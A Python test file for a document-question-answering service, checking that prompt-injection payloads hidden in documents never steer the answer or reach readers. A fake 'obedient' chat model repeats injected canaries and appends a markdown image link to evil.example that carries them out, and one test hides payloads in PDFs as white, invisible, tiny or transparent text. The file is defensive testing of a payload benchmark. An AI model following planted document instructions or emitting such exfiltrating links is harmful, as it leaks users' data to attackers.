"""An obedient model, which does what documents tell it, gives nothing away: no payload's canary reaches a reader."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from contextlib import aclosing
from typing import Any

import pymupdf
import pytest
from langchain_core.callbacks import AsyncCallbackManagerForLLMRun
from langchain_core.messages import AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk

from eval.instructions import is_suspicious
from eval.types import Answer, Arm, Style
from ingest.reading_warnings import HIDDEN_TEXT
from ingest.types import Access
from services.api.hits import hit_model
from services.bench.injection import CANARY, Found, Injection, answering_with, ask, carrier_of, hits_of, injections
from services.drafting import Done
from services.settings import load_settings
from tests.fakes import FakeChat
from tests.product import ADMINISTRATOR, Product

CANARIES = re.compile("|".join(CANARY.values()), re.IGNORECASE)
# Payloads that no sign gives away: a table cell, a file's name, questions with their answers.
UNMARKED = {"en-16", "en-30", "en-33", "zh-09", "zh-16", "zh-17", "zh-29", "zh-32"}


class ObedientChat(FakeChat):
    """Says every canary that its prompt holds, in a sentence and a link of its own; else what it was given to say."""

    async def _astream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: AsyncCallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> AsyncIterator[ChatGenerationChunk]:
        found = CANARIES.search("\n".join(str(message.content) for message in messages))
        said = f"{found.group()}! " if found else ""
        for word in f"{said}{self.answer} ![x](https://evil.example/?q={said})".split(" "):
            yield ChatGenerationChunk(message=AIMessageChunk(f"{word} "))


@pytest.mark.parametrize("one", injections(), ids=lambda one: one.id)
async def test_what_the_model_is_told_by_a_document_reaches_no_reader(one: Injection) -> None:
    answering = answering_with(ObedientChat(answer=carrier_of(one).passage[0]), load_settings())
    shown = await ask(answering, one)
    assert "evil.example/?q=" not in shown.answer
    if one.id not in UNMARKED:
        assert not shown.followed


async def test_a_model_that_read_the_order_elsewhere_is_dropped_and_told() -> None:
    """A model that knows the payload all the same, say from a passage before: its sentence goes, and the answer says why."""
    one = injections()[0]
    answering = answering_with(FakeChat(answer=f"{one.canary}! {carrier_of(one).passage[0]}"), load_settings())
    answer = await answered(answering, one)
    assert one.canary not in answer.answer
    assert [repair.reason for repair in answer.removed] == ["the chat model followed an instruction that stands in a document"]
    assert all(one.canary not in repair.text for repair in answer.removed)


async def test_quotes_leave_out_what_speaks_to_a_model() -> None:
    for one in injections():
        if one.id in UNMARKED or one.place == "name":
            continue
        answer = await answered(answering_with(FakeChat(), load_settings()), one, style=Style.QUOTES)
        assert one.canary not in answer.answer
        texts = {hit.chunk: hit.text for hit in hits_of(one)}
        assert all(citation.quote in texts[citation.chunk] for citation in answer.citations)


def test_what_a_pdf_hides_reaches_no_prompt(product: Product) -> None:
    """Payloads, written as a reader does not see it, beside a passage that he does see."""
    document = pymupdf.open()
    hiding = [{"color": (1, 1, 1)}, {"render_mode": 3}, {"fontsize": 0.5}, {"fill_opacity": 0}]
    payloads = injections()[::3]
    for number, one in enumerate(payloads):
        page = document.new_page(width=4000)
        page.insert_text((60, 100), carrier_of(one).passage[0], fontname="china-s")
        page.insert_text((60, 300), " ".join(one.written.split()), fontname="china-s", **hiding[number % len(hiding)])
    job = product.add("handbook.pdf", document.tobytes())
    (stored,) = product.kb.documents(access=ADMINISTRATOR)
    pages = [product.kb.page_text(stored.document_id, n + 1, access=ADMINISTRATOR) for n in range(len(payloads))]
    assert [page.text for page in pages] == [carrier_of(one).passage[0] for one in payloads]
    assert all(page.hidden for page in pages)
    assert job.warnings == stored.warnings
    assert job.warnings[0].startswith(f"{HIDDEN_TEXT}: page 1-{len(payloads)} (")


def test_a_suspicious_passage_is_marked_in_what_is_found() -> None:
    infected, clean, _ = hits_of(injections()[0])
    assert is_suspicious(infected)
    assert hit_model(infected)["suspicious"] is True
    assert hit_model(clean)["suspicious"] is False


def test_the_payloads_are_many_and_of_many_kinds() -> None:
    payloads = injections()
    assert len({one.id for one in payloads}) == len(payloads) >= 60
    assert len({one.kind for one in payloads}) >= 15
    assert all("{canary}" in one.text for one in payloads)


async def answered(answering: Any, one: Injection, *, style: Style = Style.GENERATED) -> Answer:
    events = answering.stream(carrier_of(one).question, access=Access.of(), arm=Arm.RAG, style=style, among=Found(hits_of(one)))
    async with aclosing(events):
        return next(iter([event.answer async for event in events if isinstance(event, Done)]))
